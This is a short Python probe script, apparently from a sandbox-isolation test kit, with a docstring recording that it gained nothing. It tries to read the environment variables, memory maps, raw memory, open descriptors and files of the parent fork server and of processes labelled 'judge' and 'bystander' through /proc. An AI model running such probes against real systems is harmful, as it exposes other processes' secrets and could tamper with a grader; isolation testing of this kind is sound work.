"""Read environment, memory, descriptors and command line of the fork server, judge and bystander.

gains: nothing
score: 20
outcome: completed
"""

import os

from kit import TARGETS, attempt, drive, gained, steal

for pid in (os.getppid(), TARGETS.get("judge", 0), TARGETS.get("bystander", 0)):
    if pid <= 1:
        continue
    for name in ("environ", "maps", "stack", "cmdline", "mounts", "mem"):
        steal(f"/proc/{pid}/{name}", "about other processes")
    with attempt(), open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(0x400000)
        gained(f"opens the memory of other processes: {len(memory.read(1))}")
    with attempt():
        gained(f"reads about other processes: descriptors: {len(os.listdir(f'/proc/{pid}/fd'))}")
    for root in ("root", "cwd"):
        for path in TARGETS.get("files", ()):
            steal(f"/proc/{pid}/{root}{path}")
drive()
